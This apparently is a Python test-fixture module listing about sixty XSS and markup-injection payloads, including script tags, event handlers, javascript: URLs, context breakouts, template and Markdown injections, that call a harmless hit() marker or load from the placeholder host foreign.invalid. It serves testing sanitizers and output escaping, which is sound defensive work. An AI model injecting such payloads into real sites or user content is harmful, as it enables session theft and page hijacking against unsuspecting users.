"""Sixty ways in which a text tries to leave its place: as an element, an attribute, an address, a script, a style."""

from __future__ import annotations

CALL = "hit()"
"""What a payload runs where it gets through; a page that is watched counts it."""
ELEMENT = "x-hit"
"""What a payload makes where only its markup gets through."""
ELSEWHERE = "foreign.invalid"
"""Whom a payload asks where only its address gets through."""

ELEMENTS = (
    "<script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<script src=//foreign.invalid/1.js></script>",
    "<script/src='https://foreign.invalid/2.js'></script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<x-hit>",
    "<x-hit onfocus=hit() tabindex=1 autofocus>",
    "<img src=x onerror=hit()>",
    "<img/src=`x`onerror=hit()>",
    "<img src=//foreign.invalid/3.png>",
    "<image href=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><use href=//foreign.invalid/4.svg#x></svg>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<audio src=x onerror=hit()>",
    "<video><source onerror=hit()></video>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=//foreign.invalid/5.swf>",
    "<form action=//foreign.invalid/6><input type=image src=x></form>",
    "<link rel=stylesheet href=//foreign.invalid/7.css>",
    "<meta http-equiv=refresh content='0;url=//foreign.invalid/8'>",
    "<base href=//foreign.invalid/>",
    "<style>@import '//foreign.invalid/9.css';</style>",
    "<p style=background:url(//foreign.invalid/10.png)>",
    "<input autofocus onfocus=hit()>",
    "<marquee onstart=hit()>",
    "<template><x-hit></template><x-hit>",
    "<a href=javascript:hit() x-hit>",
)
"""Markup that opens where text stands."""
ENDINGS = (
    '"><x-hit>',
    "'><x-hit>",
    '" onmouseover="hit()" x-hit="',
    "' onmouseover='hit()' x-hit='",
    '" autofocus onfocus=hit() x="',
    "` onmouseover=hit() x=`",
    '"/><script>hit()</script>',
    "</title><x-hit>",
    "</textarea><x-hit>",
    "</td></tr></table><x-hit>",
    "</script><x-hit>",
    "</style><x-hit>",
    "--><x-hit>",
    "]]><x-hit>",
)
"""What ends the place that a text stands in."""
WORDS = (
    '";hit();//',
    "';hit();//",
    "`;${hit()}//",
    '\\";hit();//',
    "\u2028hit()\u2029",
    "&lt;x-hit&gt;",
    "&#60;x-hit&#62;",
    "{{ hit() }}{% print hit() %}",
    "[x](javascript:hit())",
    "<javascript:hit()> <https://foreign.invalid/11>",
    "![x](//foreign.invalid/12.png)",
)
"""What only a script, a template or Markdown takes for more than words."""
PAYLOADS = (*WORDS, *ENDINGS, *ELEMENTS)
ALL = " ".join(PAYLOADS)
"""All of them in one text: what would swallow the others stands after them."""
